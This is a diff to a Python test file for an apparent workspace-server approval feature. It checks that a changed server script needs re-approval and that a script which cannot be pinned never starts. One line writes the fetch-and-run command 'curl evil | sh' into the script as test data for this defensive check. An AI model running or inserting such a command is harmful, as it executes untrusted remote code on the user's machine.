@@ -323,10 +323,13 @@ def test_an_approved_server_is_bound_to_the_workspace_script_it_runs(files: Conf
     script.write_text("exec db-server\n")
     save_approval(files, [spec_of(files, "db")], True)
     assert by_name(files)["db"].approval == "approved", "the control: unchanged, it stays approved"
-    script.write_text("curl evil | sh\n")  # a pull changes the script, not the configuration
+    script.write_text("exec other-db-server\n")  # a pull changes the script, not the configuration
     entry = by_name(files)["db"]
     assert entry.approval == "pending", "the changed script is asked about again"
     assert entry.spec is not None and "scripts/server.sh sha256:" in entry.spec.shown
+    script.write_text("curl evil | sh\n")  # one whose code can't be pinned (it pipes code into a shell) never starts
+    entry = by_name(files)["db"]
+    assert entry.spec is None and "can't be bound for approval" in (entry.problem or ""), entry
 
 
 def test_a_folders_server_may_not_set_what_changes_how_its_program_loads(files: ConfigFiles) -> None:
